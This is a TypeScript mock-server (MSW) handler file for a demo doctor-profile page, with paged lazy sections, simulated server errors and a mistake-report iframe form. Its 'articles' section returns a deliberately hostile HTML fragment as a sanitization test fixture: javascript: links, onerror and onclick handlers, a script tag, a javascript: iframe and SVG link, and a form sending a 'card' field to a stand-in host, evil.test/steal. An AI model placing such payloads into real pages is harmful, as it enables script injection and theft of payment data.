/**
 * Reference API: the doctor page's lazy sections and the mistake-report form (portal-identity-reviews §2 "Doctor
 * page", §4 "Lazy doctor sections", "List loader", §7 "Doctor page"; booking-schedule §2 "Other" recommendations).
 * The HTML follows docs/doctor-sections-html.md. Decisions: docs/decisions/162–165.
 *
 * - `GET /ajax/doctor/{id}/activities/` → HTML: the skeletons of the sections {@link ACTIVITY_SECTIONS} ('Опыт
 *   работы', 'Онлайн-консультации'): `<section id data-section><h2/><div data-section-body>…</div></section>`.
 * - `GET /ajax/doctor/{id}/activities/{section}/?page={n}&page_size={k}` → HTML of page n (k items, default 10). Page 1
 *   is the section's whole content (a `[data-ds-list]`, and a load-more button `[data-ds-more]` with its counter or a
 *   scroller `[data-ds-scroller]` while items remain); later pages are the bare items. Every page ends with the meta
 *   `<div data-ds-page data-remaining="{items left}" hidden></div>`.
 *   Sections: `about`, `education`, `recommendations` (4 shown + 4 hidden items and the 'more' button), `services`
 *   (23 items, load-more), `answers` (30 items, infinite scroll; page 3 fails with 500), `articles` (a HOSTILE
 *   fragment: `<img onerror>`, `<script>`, `javascript:` links, an inline handler, an `<iframe>`, a `<form>`),
 *   `certificates` (always 500), `experience` and `online` (from the activities skeleton). Unknown section → 404.
 *   Doctors: {@link DOCTOR_SECTIONS_DOCTORS}; another id → 404.
 * - `GET /mistake/report/?doctor={id}&iframe=true` → the mistake-report form page: on load it posts
 *   `{sender: 'mistakeForm', action: 'resize', height}` to its parent; 'Отправить' posts `resize` (the thank-you text's
 *   height) and then `close`.
 */
import { delay, http, HttpResponse, type HttpHandler } from 'msw';
import type { HandlerOptions } from './schedule';

/** The demo doctors (id → full name and speciality). */
export const DOCTOR_SECTIONS_DOCTORS: Record<number, { fio: string; speciality: string }> = {
  7001: { fio: 'Смирнова Ольга Викторовна', speciality: 'Невролог' },
  7002: { fio: 'Ковалёв Дмитрий Андреевич', speciality: 'Кардиолог' },
  7003: { fio: 'Егорова Марина Павловна', speciality: 'Офтальмолог' },
  1014: { fio: 'Белова Наталья Викторовна', speciality: 'Эндокринолог' },
};
/** The doctor of demo/doctor-page.html: the same sections, none failing (the infinite list loads to its end). */
export const DOCTOR_PAGE_SECTIONS_DOCTOR_ID = 1014;
/** The demo page's doctor. */
export const DEMO_SECTIONS_DOCTOR_ID = 7001;
/** Sections the activities skeleton brings. */
export const ACTIVITY_SECTIONS = ['experience', 'online'] as const;
/** Total items of the paged sections. */
export const SECTION_TOTALS = { services: 23, answers: 30 } as const;
/** The infinite-scroll section's failing page. */
export const FAILING_ANSWERS_PAGE = 3;
/** The mistake-report form path (add `?doctor={id}`). */
export const MISTAKE_FORM_PATH = '/mistake/report/';
/** The form page's heading. */
export const MISTAKE_FORM_TITLE = 'Нашли ошибку?';

const esc = (s: string) =>
  s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

const html = (body: string, status = 200) =>
  new HttpResponse(body, { status, headers: { 'Content-Type': 'text/html; charset=utf-8' } });

const meta = (remaining: number) => `<div data-ds-page data-remaining="${remaining}" hidden></div>`;

const SERVICES = [
  ['Первичный приём', 2500],
  ['Повторный приём', 2000],
  ['Консультация по результатам МРТ', 3000],
  ['Блокада лечебная', 1800],
  ['Электронейромиография', 4500],
  ['Онлайн-консультация', 1900],
  ['Приём на дому', 6000],
  ['Ботулинотерапия', 12000],
] as const;

function serviceItem(i: number): string {
  const [name, price] = SERVICES[i % SERVICES.length]!;
  const variant = Math.floor(i / SERVICES.length);
  return `<li class="ds-row"><span>${name}${variant ? ` (вариант ${variant + 1})` : ''}</span><span class="ds-price">${(price + variant * 100).toLocaleString('ru-RU')} ₽</span></li>`;
}

function answerItem(i: number, fio: string): string {
  return `<li class="ds-answer"><p class="ds-answer__q">Вопрос №${i + 1}: головная боль после сна, что делать?</p><p>Отвечает ${esc(fio)}: рекомендую вести дневник головной боли и прийти на очный приём.</p></li>`;
}

function recommendationItem(i: number, hidden: boolean): string {
  const names = [
    'Белов Игорь Семёнович',
    'Орлова Ксения Игоревна',
    'Тихонов Павел Юрьевич',
    'Гусева Наталья Олеговна',
    'Фёдоров Артём Викторович',
    'Зайцева Вера Алексеевна',
    'Никитин Олег Романович',
    'Соколова Дарья Максимовна',
  ];
  return `<li class="ds-rec"${hidden ? ' hidden' : ''}><a href="/moskva/vrach/${8100 + i}-demo/">${names[i % names.length]}</a><span class="muted"> · невролог, стаж ${5 + i} лет</span></li>`;
}

/** A paged list: the items of page `page` (1-based) of `total`, `size` per page, and how many remain after it. */
function paged(total: number, page: number, size: number): { from: number; to: number; remaining: number } {
  const from = Math.min(total, (page - 1) * size);
  const to = Math.min(total, from + size);
  return { from, to, remaining: total - to };
}

const range = (from: number, to: number) =>
  Array.from({ length: Math.max(0, to - from) }, (_, k) => from + k);

/** The counter text of a load-more button ('Показать ещё 13'). */
const moreButton = (remaining: number) =>
  `<button type="button" class="ds-more" data-ds-more data-remaining="${remaining}">Показать ещё <span data-ds-counter>${remaining}</span></button>`;

function sectionPage(section: string, doctorId: number, page: number, size: number): Response | null {
  const doctor = DOCTOR_SECTIONS_DOCTORS[doctorId]!;
  switch (section) {
    case 'about':
      return html(
        `<p>${esc(doctor.fio)} — ${doctor.speciality.toLowerCase()} с опытом более 15 лет. Принимает взрослых пациентов, ` +
          'занимается диагностикой и лечением головной боли, болей в спине и нарушений сна.</p>' +
          '<p>Ведёт приём в двух клиниках Москвы, консультирует онлайн.</p>' +
          meta(0),
      );
    case 'education':
      return html(
        '<ul class="ds-list"><li>2008 — Первый МГМУ им. И. М. Сеченова, лечебное дело</li>' +
          '<li>2010 — ординатура по неврологии</li><li>2019 — повышение квалификации: ботулинотерапия</li></ul>' +
          meta(0),
      );
    case 'experience':
      return html(
        '<ul class="ds-list"><li>2010–2016 — ГКБ № 1, неврологическое отделение</li>' +
          '<li>с 2016 — клиника «Ясень», заведующая отделением</li></ul>' +
          meta(0),
      );
    case 'online':
      return html(
        '<p>Онлайн-консультация в приложении: 30 минут, 1 900 ₽. Можно прислать результаты анализов заранее.</p>' +
          meta(0),
      );
    case 'recommendations':
      return html(
        '<div data-ds-recommendations><ul class="ds-list" data-ds-list>' +
          range(0, 8)
            .map((i) => recommendationItem(i, i >= 4))
            .join('') +
          '</ul><div class="ds-reveal" data-ds-reveal-container><button type="button" class="ds-more" data-ds-reveal>Показать ещё</button></div></div>' +
          meta(0),
      );
    case 'services': {
      const { from, to, remaining } = paged(SECTION_TOTALS.services, page, size);
      const items = range(from, to).map(serviceItem).join('');
      if (page > 1) return html(items + meta(remaining));
      return html(
        `<ul class="ds-list ds-table" data-ds-list>${items}</ul>` +
          (remaining > 0 ? moreButton(remaining) : '') +
          meta(remaining),
      );
    }
    case 'answers': {
      if (page === FAILING_ANSWERS_PAGE && doctorId !== DOCTOR_PAGE_SECTIONS_DOCTOR_ID)
        return html('<h1>Server Error (500)</h1>', 500);
      const { from, to, remaining } = paged(SECTION_TOTALS.answers, page, size);
      const items = range(from, to)
        .map((i) => answerItem(i, doctor.fio))
        .join('');
      if (page > 1) return html(items + meta(remaining));
      return html(
        `<ul class="ds-list" data-ds-list>${items}</ul>` +
          (remaining > 0
            ? `<div class="ds-scroller" data-ds-scroller data-remaining="${remaining}"><span class="ds-spinner"></span></div>`
            : '') +
          meta(remaining),
      );
    }
    case 'articles':
      // HOSTILE on purpose: everything executable must arrive inert (docs/doctor-sections-html.md).
      return html(
        '<ul class="ds-list">' +
          '<li><a href="/articles/migraine/">Мигрень: когда идти к врачу</a></li>' +
          '<li><a href="javascript:window.__pwned=\'link\'" id="ds-evil-link">Бессонница и тревога</a></li>' +
          '<li><img src="/no-such-image.png" alt="" onerror="window.__pwned=\'img\'" id="ds-evil-img">Головная боль напряжения</li>' +
          '<li onclick="window.__pwned=\'click\'" id="ds-evil-li">Боль в спине у офисных работников</li>' +
          '</ul>' +
          '<script>window.__pwned = "script"</script>' +
          '<iframe src="javascript:parent.__pwned=\'frame\'"></iframe>' +
          '<form action="https://evil.test/steal"><input name="card"><button>Отправить</button></form>' +
          '<svg><a xlink:href="javascript:window.__pwned=\'svg\'"><text y="10">svg</text></a></svg>' +
          meta(0),
      );
    case 'certificates':
      return html('<h1>Server Error (500)</h1>', 500);
    default:
      return null;
  }
}

function activitiesSkeleton(): string {
  const titles: Record<(typeof ACTIVITY_SECTIONS)[number], string> = {
    experience: 'Опыт работы',
    online: 'Онлайн-консультации',
  };
  return ACTIVITY_SECTIONS.map(
    (name) =>
      `<section class="card ds-section" id="${name}" data-section="${name}" aria-labelledby="${name}-title">` +
      `<h2 id="${name}-title">${titles[name]}</h2>` +
      '<div data-section-body><div class="ds-skeleton" aria-hidden="true"><span></span><span></span></div></div>' +
      '</section>',
  ).join('');
}

/** The mistake-report form page (plain ES5 script, posting to its parent). */
function mistakeFormPage(doctorId: string): Response {
  const script = `(function () {
  'use strict';
  function post(message) { parent.postMessage(message, '*'); }
  function size() { post({ sender: 'mistakeForm', action: 'resize', height: Math.ceil(document.body.getBoundingClientRect().height) }); }
  window.addEventListener('load', size);
  document.getElementById('mistake-form').addEventListener('submit', function (e) {
    e.preventDefault();
    document.getElementById('mistake-form').hidden = true;
    document.getElementById('mistake-done').hidden = false;
    size();
    post({ sender: 'mistakeForm', action: 'close' });
  });
})();`;
  const page =
    '<!doctype html><html lang="ru"><head><meta charset="utf-8">' +
    '<meta name="viewport" content="width=device-width, initial-scale=1">' +
    `<title>${MISTAKE_FORM_TITLE} — ПроДокторов (демо)</title></head>` +
    '<body style="font-family:system-ui,sans-serif;margin:0;padding:16px;color:#1d2733">' +
    `<main aria-label="${MISTAKE_FORM_TITLE}"><h1 style="font-size:1.1em;margin:0 0 8px">${MISTAKE_FORM_TITLE}</h1>` +
    `<form id="mistake-form" data-doctor="${esc(doctorId)}">` +
    '<p style="margin:0 0 12px">Расскажите, что на странице врача указано неверно — мы проверим и исправим.</p>' +
    '<label for="mistake-text" style="display:block;margin:0 0 4px">Что не так?</label>' +
    '<textarea id="mistake-text" name="text" rows="4" style="display:block;width:100%;box-sizing:border-box;font:inherit;padding:8px"></textarea>' +
    '<button type="submit" style="margin-top:12px;padding:10px 20px;font:inherit;border:0;border-radius:8px;background:#1a5dd0;color:#fff">Отправить</button>' +
    '</form><p id="mistake-done" hidden>Спасибо! Сообщение отправлено.</p></main>' +
    `<script>${script}</script></body></html>`;
  return html(page);
}

/** Handlers of the doctor sections and the mistake-report form. */
export function doctorSectionsHandlers(opts: HandlerOptions = {}): HttpHandler[] {
  const base = opts.base ?? '*';
  const wait = async () => {
    if (opts.latencyMs) await delay(opts.latencyMs);
  };
  const doctorOf = (raw: unknown): number | null => {
    const id = Number(raw);
    return Number.isInteger(id) && DOCTOR_SECTIONS_DOCTORS[id] ? id : null;
  };
  return [
    http.get(`${base}/ajax/doctor/:id/activities/`, async ({ params }) => {
      await wait();
      if (doctorOf(params.id) === null) return html('<h1>Not Found</h1>', 404);
      return html(activitiesSkeleton());
    }),
    http.get(`${base}/ajax/doctor/:id/activities/:section/`, async ({ params, request }) => {
      await wait();
      const id = doctorOf(params.id);
      if (id === null) return html('<h1>Not Found</h1>', 404);
      const query = new URL(request.url).searchParams;
      const page = Number(query.get('page') ?? '1');
      const size = Number(query.get('page_size') ?? '10');
      if (!Number.isInteger(page) || page < 1) return html('<h1>Bad Request</h1>', 400);
      const pageSize = Number.isInteger(size) && size >= 1 && size <= 50 ? size : 10;
      return sectionPage(String(params.section), id, page, pageSize) ?? html('<h1>Not Found</h1>', 404);
    }),
    http.get(`${base}${MISTAKE_FORM_PATH}`, async ({ request }) => {
      await wait();
      return mistakeFormPage(new URL(request.url).searchParams.get('doctor') ?? '');
    }),
  ];
}
